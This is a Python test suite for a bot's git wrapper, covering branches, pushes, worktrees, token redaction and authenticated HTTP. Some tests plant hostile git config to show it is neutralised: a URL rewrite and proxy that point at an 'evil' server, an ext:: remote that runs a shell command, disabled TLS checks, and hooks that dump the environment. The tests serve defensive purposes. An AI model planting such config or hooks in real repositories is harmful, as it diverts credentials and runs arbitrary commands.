"""bot.git against real git: bare remotes in tmp dirs, hooks, worktrees, git over HTTP."""

from __future__ import annotations

import base64
import logging
import os
import stat
import threading
import time
from pathlib import Path

import pytest

from bot.errors import GitError
from bot.git import BOT_EMAIL, BOT_NAME, Workspace, clone
from tests.fakes.gitrepo import (
    branch_sha,
    branches,
    commits,
    file_url,
    git,
    make_github_remote,
    make_remote,
    push_files,
    read_file,
    read_tree,
    serve_http,
    server_url,
)

BRANCH = "agentbot/fix-issue-1"
TOKEN = "ghs_" + "A1b2C3d4E5f6G7h8I9j0" * 2
BASIC = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
FILES = {
    "app.py": "x = 1\ny = 2\n",
    "README.md": "# demo\n",
    "tests/test_app.py": "def test_x():\n    assert True\n",
    ".gitignore": "*.log\n",
}


@pytest.fixture(autouse=True)
def unchecked_pushes(monkeypatch: pytest.MonkeyPatch) -> None:
    """These tests are about git; what a push may hold is tests/test_outbound_push.py's."""
    monkeypatch.setattr(Workspace, "push_guard", staticmethod(lambda ws, head: None))


@pytest.fixture
def remote(tmp_path: Path) -> Path:
    return make_remote(tmp_path, FILES)


@pytest.fixture
def ws(remote: Path, tmp_path: Path) -> Workspace:
    return clone(file_url(remote), tmp_path / "work")


def hook(ws: Workspace, name: str, script: str) -> None:
    path = ws.path / ".git" / "hooks" / name
    path.write_text("#!/bin/sh\n" + script)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def staged(ws: Workspace) -> list[str]:
    return ws.git("diff", "--cached", "--name-only").split()


# -- clone, branches, push -------------------------------------------------------------------


def test_clone_checks_out_the_default_branch(ws: Workspace, remote: Path) -> None:
    assert ws.current_branch() == "main"
    assert ws.head_sha() == branch_sha(remote, "main")
    assert (ws.path / "app.py").read_text() == FILES["app.py"]
    assert not ws.has_changes()


def test_clone_a_given_branch(remote: Path, tmp_path: Path) -> None:
    sha = push_files(remote, "dev", {"dev.txt": "d\n"}, start="main")
    other = clone(file_url(remote), tmp_path / "dev", branch="dev")
    assert other.current_branch() == "dev"
    assert other.head_sha() == sha


def test_new_branch_commit_push_as_the_bot(ws: Workspace, remote: Path) -> None:
    assert ws.prepare_branch(BRANCH, base="origin/main") == BRANCH
    assert ws.current_branch() == BRANCH
    (ws.path / "app.py").write_text("x = 1\ny = 3\n")
    sha = ws.commit("fix: y is 3\n\nFixes #1\n")
    ws.push(BRANCH)
    assert branch_sha(remote, BRANCH) == sha
    [c] = commits(remote, BRANCH, base="main")
    assert (c.subject, c.body) == ("fix: y is 3", "Fixes #1")
    assert (c.author_name, c.author_email, c.committer_email) == (BOT_NAME, BOT_EMAIL, BOT_EMAIL)
    # The identity came per command: nothing written to the repository's config.
    assert "user." not in ws.git("config", "--local", "--list")
    assert ws.log_messages("origin/main") == ["fix: y is 3"]
    assert ws.remote_branch_exists(BRANCH)
    assert not ws.remote_branch_exists("agentbot/nope")


def test_commit_message_keeps_lines_starting_with_hash(ws: Workspace) -> None:
    (ws.path / "app.py").write_text("x = 5\n")
    ws.commit("fix: x\n\n#12 described it\nFixes #12\n")
    assert ws.git("log", "-1", "--format=%b").strip() == "#12 described it\nFixes #12"


def test_prepare_branch_reuses_our_own_branch(remote: Path, tmp_path: Path) -> None:
    first = clone(file_url(remote), tmp_path / "a")
    first.prepare_branch(BRANCH, base="origin/main")
    (first.path / "app.py").write_text("x = 2\ny = 2\n")
    ours = first.commit("fix: x is 2")
    first.push(BRANCH)

    again = clone(file_url(remote), tmp_path / "b")
    assert again.prepare_branch(BRANCH, base="origin/main") == BRANCH
    assert again.head_sha() == ours
    assert again.current_branch() == BRANCH


def test_reused_branch_is_rebased_when_base_moved(remote: Path, tmp_path: Path) -> None:
    first = clone(file_url(remote), tmp_path / "a")
    first.prepare_branch(BRANCH, base="origin/main")
    (first.path / "app.py").write_text("x = 2\ny = 2\n")
    first.commit("fix: x is 2")
    first.push(BRANCH)
    main = push_files(remote, "main", {"docs.md": "more\n"})

    again = clone(file_url(remote), tmp_path / "b")
    assert again.prepare_branch(BRANCH, base="origin/main") == BRANCH
    assert again.succeeds("merge-base", "--is-ancestor", main, "HEAD")
    assert again.log_messages("origin/main") == ["fix: x is 2"]
    again.push(BRANCH)  # a rewrite of our own branch: the lease allows it
    assert branch_sha(remote, BRANCH) == again.head_sha()
    assert read_file(remote, BRANCH, "docs.md") == "more\n"


def test_reused_branch_is_kept_when_rebase_conflicts(
    remote: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    first = clone(file_url(remote), tmp_path / "a")
    first.prepare_branch(BRANCH, base="origin/main")
    (first.path / "app.py").write_text("x = 2\ny = 2\n")
    ours = first.commit("fix: x is 2")
    first.push(BRANCH)
    push_files(remote, "main", {"app.py": "x = 9\ny = 2\n"})

    again = clone(file_url(remote), tmp_path / "b")
    with caplog.at_level(logging.WARNING, logger="agentbot.git"):
        assert again.prepare_branch(BRANCH, base="origin/main") == BRANCH
    assert again.head_sha() == ours
    assert not again.has_changes()
    assert not (again.path / ".git" / "rebase-merge").exists()
    assert "could not rebase" in caplog.text


def test_someone_elses_branch_gets_a_suffix(ws: Workspace, remote: Path) -> None:
    theirs = push_files(remote, BRANCH, {"app.py": "human\n"}, start="main")
    push_files(remote, f"{BRANCH}-2", {"app.py": "human 2\n"}, start="main")
    assert ws.prepare_branch(BRANCH, base="origin/main") == f"{BRANCH}-3"
    (ws.path / "new.py").write_text("n = 1\n")
    ws.commit("fix: add n")
    ws.push(f"{BRANCH}-3")
    assert branch_sha(remote, BRANCH) == theirs
    assert read_tree(remote, f"{BRANCH}-3")["new.py"] == "n = 1\n"
    assert branches(remote) == [
        "agentbot/fix-issue-1",
        "agentbot/fix-issue-1-2",
        "agentbot/fix-issue-1-3",
        "main",
    ]


def test_a_bot_commit_on_top_of_a_human_one_is_not_ours(ws: Workspace, remote: Path) -> None:
    push_files(remote, BRANCH, {"a.txt": "h\n"}, start="main")
    push_files(remote, BRANCH, {"b.txt": "b\n"}, author=(BOT_NAME, BOT_EMAIL))
    assert ws.prepare_branch(BRANCH, base="origin/main") == f"{BRANCH}-2"


def test_lease_allows_our_rewrite_and_refuses_when_the_remote_moved(
    ws: Workspace, remote: Path
) -> None:
    ws.prepare_branch(BRANCH, base="origin/main")
    (ws.path / "app.py").write_text("first\n")
    ws.commit("fix: first try")
    ws.push(BRANCH)

    ws.reset_hard("origin/main")
    (ws.path / "app.py").write_text("second\n")
    second = ws.commit("fix: second try")
    ws.push(BRANCH)  # not a fast-forward: only the lease lets it through
    assert branch_sha(remote, BRANCH) == second

    human = push_files(remote, BRANCH, {"app.py": "human fix\n"})
    ws.fetch()  # even with fresh tracking refs, the lease is what we saw, not what is there
    ws.reset_hard("origin/main")
    (ws.path / "app.py").write_text("third\n")
    ws.commit("fix: third try")
    with pytest.raises(GitError) as err:
        ws.push(BRANCH)
    assert err.value.operation == "push"
    assert err.value.recoverable is False
    assert branch_sha(remote, BRANCH) == human


def test_plain_push_on_a_branch_we_do_not_own(ws: Workspace, remote: Path) -> None:
    push_files(remote, "feature", {"f.txt": "human\n"}, start="main")
    ws.fetch()
    ws.checkout("feature")
    (ws.path / "f.txt").write_text("bot\n")
    ws.commit("feat(T001): bot work")
    ws.push("feature", force_with_lease=True)  # a fast-forward: fine
    assert read_file(remote, "feature", "f.txt") == "bot\n"

    ws.reset_hard("origin/main")
    (ws.path / "g.txt").write_text("rewrite\n")
    ws.commit("feat: rewrite")
    with pytest.raises(GitError) as err:
        ws.push("feature", force_with_lease=True)  # would drop the human's commit: refused
    assert err.value.recoverable is False
    assert read_file(remote, "feature", "f.txt") == "bot\n"


def test_fetch_one_branch_updates_its_tracking_ref(ws: Workspace, remote: Path) -> None:
    sha = push_files(remote, "dev", {"d.txt": "d\n"}, start="main")
    ws.fetch("dev")
    assert ws.rev("origin/dev") == sha


# -- commits --------------------------------------------------------------------------------


def test_a_commit_runs_no_hook_and_takes_what_was_staged(ws: Workspace, tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    for name in ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"):
        hook(ws, name, f'echo {name} >> "{ran}"\necho "# hook" >> app.py\nexit 1\n')
    (ws.path / "app.py").write_text("x = 10   \n")
    sha = ws.commit("style: spaces")
    assert not ran.exists()
    assert ws.git("show", f"{sha}:app.py") == "x = 10   \n"
    assert not ws.has_changes()


def test_paths_commit_leaves_unrelated_staged_changes_staged(ws: Workspace, tmp_path: Path) -> None:
    (ws.path / "README.md").write_text("# staged by someone\n")
    ws.git("add", "README.md")
    (ws.path / "app.py").write_text("x = 7\n")
    (ws.path / "new.py").write_text("n = 1\n")
    sha = ws.commit("fix: x is 7", paths=["app.py", "new.py"])
    assert ws.git("show", "--name-only", "--format=", sha).split() == ["app.py", "new.py"]
    assert staged(ws) == ["README.md"]
    assert ws.git("show", ":README.md") == "# staged by someone\n"
    assert ws.git("stash", "list") == ""
    assert ws.git("status", "--porcelain").splitlines() == ["M  README.md"]


def test_paths_commit_takes_deletions(ws: Workspace) -> None:
    ws.git("rm", "--quiet", "tests/test_app.py")  # a deletion already staged
    (ws.path / "app.py").unlink()  # one that is not
    sha = ws.commit("refactor: drop app", paths=["app.py", "tests/test_app.py"])
    assert ws.git("show", "--name-status", "--format=", sha).split() == [
        "D",
        "app.py",
        "D",
        "tests/test_app.py",
    ]
    assert not ws.has_changes()


def test_index_mode_commits_only_what_is_staged(ws: Workspace) -> None:
    (ws.path / "app.py").write_text("x = 8\n")
    (ws.path / "README.md").write_text("# unstaged\n")
    ws.git("add", "app.py")
    sha = ws.commit("fix: x is 8", all=False)
    assert ws.git("show", "--name-only", "--format=", sha).split() == ["app.py"]
    assert ws.git("status", "--porcelain").splitlines() == [" M README.md"]


def test_nothing_to_commit_raises(ws: Workspace) -> None:
    with pytest.raises(GitError) as err:
        ws.commit("fix: nothing")
    assert (err.value.operation, err.value.recoverable) == ("commit", False)
    (ws.path / "debug.log").write_text("ignored\n")
    with pytest.raises(GitError):
        ws.commit("fix: nothing", paths=["app.py"])


# -- merge, worktrees, cherry-pick -----------------------------------------------------------


def test_conflicting_merge_is_aborted(ws: Workspace, remote: Path) -> None:
    push_files(remote, "other", {"app.py": "x = 100\ny = 2\n"}, start="main")
    ws.fetch()
    (ws.path / "app.py").write_text("x = 200\ny = 2\n")
    head = ws.commit("fix: x is 200")
    with pytest.raises(GitError) as err:
        ws.merge("origin/other")
    assert (err.value.operation, err.value.recoverable) == ("merge", False)
    assert "app.py" in str(err.value)
    assert ws.git("status", "--porcelain") == ""
    assert not (ws.path / ".git" / "MERGE_HEAD").exists()
    assert ws.head_sha() == head


def test_clean_merge(ws: Workspace, remote: Path) -> None:
    push_files(remote, "other", {"other.txt": "o\n"}, start="main")
    ws.fetch()
    (ws.path / "app.py").write_text("x = 200\ny = 2\n")
    ws.commit("fix: x is 200")
    ws.merge("origin/other")
    assert (ws.path / "other.txt").read_text() == "o\n"
    assert ws.git("log", "-1", "--format=%ae") == BOT_EMAIL + "\n"


def test_worktree_task_is_cherry_picked_back(ws: Workspace, tmp_path: Path) -> None:
    ws.prepare_branch("agentbot/implement", base="origin/main")
    wt = ws.add_worktree(tmp_path / "wt" / "T001", branch="agentbot/task-T001", start="HEAD")
    assert wt.current_branch() == "agentbot/task-T001"
    (wt.path / "feature.py").write_text("def f() -> int:\n    return 1\n")
    task = wt.commit("feat(T001): add f")
    assert not (ws.path / "feature.py").exists()

    picked = ws.cherry_pick(task)
    assert picked == ws.head_sha()
    assert (ws.path / "feature.py").exists()
    assert ws.log_messages("origin/main") == ["feat(T001): add f"]

    ws.remove_worktree(wt.path)
    assert not wt.path.exists()
    assert str(wt.path) not in ws.git("worktree", "list")
    assert ws.rev("agentbot/task-T001") == task


def test_worktree_retry_at_the_same_path_starts_fresh(ws: Workspace, tmp_path: Path) -> None:
    first = ws.add_worktree(tmp_path / "wt", branch="task", start="HEAD")
    (first.path / "half.py").write_text("half-done\n")
    first.commit("feat: half")
    (first.path / "junk.txt").write_text("junk\n")
    again = ws.add_worktree(tmp_path / "wt", branch="task", start="origin/main")
    assert again.head_sha() == ws.rev("origin/main")
    assert not (again.path / "junk.txt").exists()
    assert len(ws.worktrees()) == 2


def test_remove_worktree_refuses_a_path_that_is_not_one(ws: Workspace, tmp_path: Path) -> None:
    with pytest.raises(GitError, match="not a linked worktree"):
        ws.remove_worktree(ws.path)
    assert (ws.path / "app.py").exists()
    ws.remove_worktree(tmp_path / "never-existed")  # nothing there: nothing to do


def test_parallel_worktrees_from_threads(ws: Workspace, tmp_path: Path) -> None:
    shas: dict[int, str] = {}
    errors: list[BaseException] = []

    def task(n: int) -> None:
        try:
            wt = ws.add_worktree(tmp_path / f"wt{n}", branch=f"task-{n}", start="HEAD")
            (wt.path / f"t{n}.py").write_text(f"n = {n}\n")
            shas[n] = wt.commit(f"feat(T00{n}): task {n}")
            ws.remove_worktree(wt.path)
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=task, args=(n,)) for n in range(1, 6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    for n in sorted(shas):
        ws.cherry_pick(shas[n])
    assert sorted(p.name for p in ws.path.glob("t*.py")) == [f"t{n}.py" for n in range(1, 6)]
    assert ws.git("worktree", "list").count("\n") == 1


def test_conflicting_cherry_pick_is_aborted(ws: Workspace, tmp_path: Path) -> None:
    wt = ws.add_worktree(tmp_path / "wt", branch="task", start="HEAD")
    (wt.path / "app.py").write_text("x = 'task'\ny = 2\n")
    task = wt.commit("feat: task")
    (ws.path / "app.py").write_text("x = 'main'\ny = 2\n")
    head = ws.commit("feat: main")
    with pytest.raises(GitError) as err:
        ws.cherry_pick(task)
    assert (err.value.operation, err.value.recoverable) == ("cherry-pick", False)
    assert "app.py" in str(err.value)
    assert ws.git("status", "--porcelain") == ""
    assert ws.head_sha() == head


def test_cherry_pick_of_an_applied_commit_is_reported(ws: Workspace, tmp_path: Path) -> None:
    wt = ws.add_worktree(tmp_path / "wt", branch="task", start="HEAD")
    (wt.path / "f.txt").write_text("f\n")
    task = wt.commit("feat: f")
    ws.cherry_pick(task)
    with pytest.raises(GitError, match="empty"):
        ws.cherry_pick(task)
    assert ws.git("status", "--porcelain") == ""


# -- what changed ----------------------------------------------------------------------------


def test_changes_cover_commits_index_worktree_and_untracked(ws: Workspace, remote: Path) -> None:
    ws.prepare_branch(BRANCH, base="origin/main")
    (ws.path / "app.py").write_text("x = 1\ny = 2\nz = 3\n")
    ws.commit("feat: z")
    ws.git("mv", "README.md", "DOCS.md")  # staged rename
    (ws.path / "tests" / "test_app.py").unlink()  # unstaged deletion
    (ws.path / "new.py").write_text("a\nb\n")  # untracked
    (ws.path / "blob.bin").write_bytes(b"\x00\x01\x02")
    (ws.path / "debug.log").write_text("ignored\n")
    index_before = ws.git("diff", "--cached", "--name-status")
    status_before = ws.git("status", "--porcelain")

    base = "origin/main"
    assert ws.changed_files(base) == [
        "DOCS.md",
        "README.md",
        "app.py",
        "blob.bin",
        "new.py",
        "tests/test_app.py",
    ]
    patch = ws.diff(base)
    assert "+z = 3" in patch and "+++ b/new.py" in patch and "rename to DOCS.md" in patch
    # Looking never touches the index or the working tree.
    assert ws.git("diff", "--cached", "--name-status") == index_before
    assert ws.git("status", "--porcelain") == status_before


def test_changes_ignore_what_the_base_gained_since(ws: Workspace, remote: Path) -> None:
    ws.prepare_branch(BRANCH, base="origin/main")
    (ws.path / "mine.py").write_text("m\n")
    push_files(remote, "main", {"theirs.py": "t\n", "app.py": None})
    ws.fetch()
    assert ws.changed_files("origin/main") == ["mine.py"]


def test_changes_in_a_worktree(ws: Workspace, tmp_path: Path) -> None:
    wt = ws.add_worktree(tmp_path / "wt", branch="task", start="origin/main")
    (wt.path / "w.py").write_text("w\n")
    assert wt.changed_files("origin/main") == ["w.py"]
    assert ws.changed_files("origin/main") == []


def test_has_changes(ws: Workspace) -> None:
    assert not ws.has_changes()
    (ws.path / "debug.log").write_text("ignored\n")
    assert not ws.has_changes()
    (ws.path / "new.py").write_text("n\n")
    assert ws.has_changes()
    ws.reset_hard("HEAD", clean=True)
    assert not ws.has_changes()
    assert (ws.path / "debug.log").exists()  # ignored files survive a clean


def test_detached_head_reports_head(ws: Workspace) -> None:
    ws.checkout(ws.head_sha())
    assert ws.current_branch() == "HEAD"


# -- secrets, environment, timeouts ----------------------------------------------------------


def test_errors_and_logs_never_show_the_token(
    ws: Workspace, caplog: pytest.LogCaptureFixture
) -> None:
    authed = Workspace(ws.path, token=TOKEN)
    with caplog.at_level(logging.DEBUG, logger="agentbot.git"), pytest.raises(GitError) as err:
        authed.git("rev-parse", "--verify", TOKEN)
    assert TOKEN not in str(err.value)
    assert "[REDACTED]" in str(err.value)
    assert caplog.records
    assert all(TOKEN not in r.getMessage() for r in caplog.records)


def git_command_on_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, body: str
) -> None:
    """A `git-<name>` program git finds on PATH: `git <name>` runs it as a git child."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    program = bin_dir / f"git-{name}"
    program.write_text("#!/bin/sh\n" + body)
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


def test_git_children_get_only_the_allowlist(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_parent_secret_value")
    monkeypatch.setenv("DOCKER_PASS", "parent-docker-password-1")
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("GIT_TRACE2_EVENT", str(tmp_path / "trace.json"))
    dump = tmp_path / "env.txt"
    git_command_on_path(tmp_path, monkeypatch, "dumpenv", f'env > "{dump}"\n')
    authed = Workspace(ws.path, token=TOKEN)
    authed.run(["dumpenv"])
    seen = dict(line.split("=", 1) for line in dump.read_text().splitlines() if "=" in line)
    assert "parent_secret" not in dump.read_text() and "parent-docker" not in dump.read_text()
    assert TOKEN not in dump.read_text() and BASIC not in dump.read_text()
    assert "GIT_DIR" not in seen and "GIT_TRACE2_EVENT" not in seen
    assert seen["GIT_CONFIG_GLOBAL"] == os.devnull and seen["GIT_CONFIG_NOSYSTEM"] == "1"
    assert seen["GIT_NO_REPLACE_OBJECTS"] == "1"
    assert not (tmp_path / "trace.json").exists()
    assert os.environ["GITHUB_TOKEN"] == "ghp_parent_secret_value"


def test_timeout_kills_git_and_its_children(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pidfile = tmp_path / "pid"
    git_command_on_path(tmp_path, monkeypatch, "sleeper", f'echo $$ > "{pidfile}"\nexec sleep 30\n')
    slow = Workspace(ws.path, timeout=1)
    started = time.monotonic()
    with pytest.raises(GitError, match="timed out") as err:
        slow.run(["sleeper"])
    assert time.monotonic() - started < 10
    assert err.value.recoverable is True
    pid = int(pidfile.read_text())
    for _ in range(50):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    else:
        pytest.fail("the child process survived the timeout")


# -- git over HTTP with a token --------------------------------------------------------------


def assert_no_token_anywhere(ws: Workspace, caplog: pytest.LogCaptureFixture) -> None:
    for secret in (TOKEN, BASIC):
        assert secret not in (ws.path / ".git" / "config").read_text()
        assert secret not in ws.git("remote", "-v")
        for path in (ws.path / ".git").rglob("*"):
            if path.is_file():
                assert secret.encode() not in path.read_bytes(), path
        for record in caplog.records:
            assert secret not in record.getMessage()
            assert secret not in str(record.args)


def test_http_clone_and_push_with_a_token(
    tmp_path: Path, remote: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="agentbot.git")
    with serve_http(tmp_path, token=TOKEN) as server:
        ws = clone(server.url("remote.git"), tmp_path / "work", token=TOKEN)
        assert ws.prepare_branch(BRANCH, base="origin/main") == BRANCH
        (ws.path / "app.py").write_text("x = 42\n")
        sha = ws.commit("fix: the answer")
        ws.push(BRANCH)
        ws.fetch()
        assert ws.remote_branch_exists(BRANCH)
    assert branch_sha(remote, BRANCH) == sha
    assert server.refused == 0
    assert set(server.authorizations) == {f"basic {BASIC}"}
    assert any("git push" in r.getMessage() for r in caplog.records)
    assert_no_token_anywhere(ws, caplog)


def test_http_without_the_token_is_refused(tmp_path: Path, remote: Path) -> None:
    with serve_http(tmp_path, token=TOKEN) as server:
        with pytest.raises(GitError) as err:
            clone(server.url("remote.git"), tmp_path / "anon")
        assert err.value.operation == "clone"
        authed = clone(server.url("remote.git"), tmp_path / "work", token=TOKEN)
        anon = Workspace(authed.path)
        (authed.path / "app.py").write_text("x = 0\n")
        authed.commit("fix: zero")
        with pytest.raises(GitError) as push_err:
            anon.push("main")
        assert push_err.value.operation == "push"
        wrong = Workspace(authed.path, token="ghs_wrong_token_value_123456")
        with pytest.raises(GitError):
            wrong.fetch()
    assert server.refused >= 3
    assert branch_sha(remote, "main") != authed.head_sha()


def test_token_in_the_url_is_moved_out_of_it(
    tmp_path: Path, remote: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="agentbot.git")
    with serve_http(tmp_path, token=TOKEN) as server:
        url = server.url("remote.git").replace("http://", f"http://x-access-token:{TOKEN}@")
        ws = clone(url, tmp_path / "work")
        ws.fetch()
    assert ws.git("remote", "get-url", "origin").strip() == server.url("remote.git")
    assert_no_token_anywhere(ws, caplog)


def test_planted_config_cannot_divert_the_token(tmp_path: Path, remote: Path) -> None:
    marker = tmp_path / "ext-ran"
    with serve_http(tmp_path, token=TOKEN) as real, serve_http(tmp_path) as evil:
        ws = clone(real.url("remote.git"), tmp_path / "work", token=TOKEN)
        # What an agent with a shell could write into the checkout's config.
        ws.git("config", f"url.{evil.url('')}.insteadOf", real.url(""))
        ws.git("config", "remote.origin.url", f"ext::sh -c env>{marker}")
        ws.git("config", "protocol.ext.allow", "always")
        ws.git("config", "http.proxy", evil.url(""))
        ws.git("config", "http.sslVerify", "false")
        ws.prepare_branch(BRANCH, base="origin/main")
        (ws.path / "app.py").write_text("x = 7\n")
        sha = ws.commit("fix: seven")
        ws.push(BRANCH)
        ws.fetch()
        planted = ws.git("config", "--local", "--list")
    assert evil.authorizations == []
    assert not marker.exists()
    assert branch_sha(remote, BRANCH) == sha
    assert set(real.authorizations) == {f"basic {BASIC}"}
    assert "insteadof" not in planted.lower() and "http.proxy" not in planted


def test_opening_a_checkout_removes_persisted_credentials(tmp_path: Path, remote: Path) -> None:
    checkout = tmp_path / "checkout"
    git(tmp_path, "clone", "--quiet", remote.as_uri(), str(checkout))
    stale = base64.b64encode(b"x-access-token:ghs_persisted_by_checkout").decode()
    # What actions/checkout leaves in .git/config with persist-credentials (the default).
    git(checkout, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {stale}")
    Workspace(checkout, token=TOKEN)
    assert stale not in (checkout / ".git" / "config").read_text()


def test_token_replaces_a_persisted_checkout_header(tmp_path: Path, remote: Path) -> None:
    with serve_http(tmp_path, token=TOKEN) as server:
        ws = clone(server.url("remote.git"), tmp_path / "work", token=TOKEN)
        stale = base64.b64encode(b"x-access-token:expired").decode()
        # What actions/checkout leaves behind with persist-credentials, and a plain one.
        ws.git("config", f"http.{server.url('')}.extraheader", f"AUTHORIZATION: basic {stale}")
        ws.git("config", "http.extraheader", f"AUTHORIZATION: basic {stale}")
        before = len(server.authorizations)
        ws.fetch()
    assert server.authorizations[before:]
    assert set(server.authorizations[before:]) == {f"basic {BASIC}"}


def test_network_commands_run_no_hooks(tmp_path: Path, remote: Path) -> None:
    marker = tmp_path / "hook-ran"
    with serve_http(tmp_path, token=TOKEN) as server:
        ws = clone(server.url("remote.git"), tmp_path / "work", token=TOKEN)
        for name in ("pre-push", "reference-transaction"):
            hook(ws, name, f'env >> "{marker}"\n')
        ws.prepare_branch(BRANCH, base="origin/main")
        (ws.path / "app.py").write_text("x = 1\n")
        ws.commit("fix: x")
        before = marker.read_text() if marker.exists() else ""
        ws.push(BRANCH)
        ws.fetch()
    after = marker.read_text() if marker.exists() else ""
    assert after == before  # local commands ran the hook, push and fetch did not
    assert TOKEN not in after and BASIC not in after


def test_credentials_in_urls_are_split_off_and_redacted() -> None:
    from bot.git.runner import split_credentials
    from bot.secrets import SecretRegistry

    url = f"https://x-access-token:{TOKEN}@github.com/o/r.git"
    assert split_credentials(url) == ("https://github.com/o/r.git", TOKEN)
    assert split_credentials("file:///tmp/r.git") == ("file:///tmp/r.git", None)
    registry = SecretRegistry()
    registry.register(BASIC)
    assert registry.redact(f"fatal: {url} and {BASIC}") == (
        "fatal: https://[REDACTED]@github.com/o/r.git and [REDACTED]"
    )


def test_github_style_remote_clones_through_server_url(tmp_path: Path) -> None:
    remote = make_github_remote(tmp_path / "gh", "octo/demo", {"a.txt": "a\n"})
    base = server_url(tmp_path / "gh")
    ws = clone(f"{base}/octo/demo.git", tmp_path / "work")
    assert (ws.path / "a.txt").read_text() == "a\n"
    assert remote == (tmp_path / "gh" / "octo" / "demo.git").resolve()
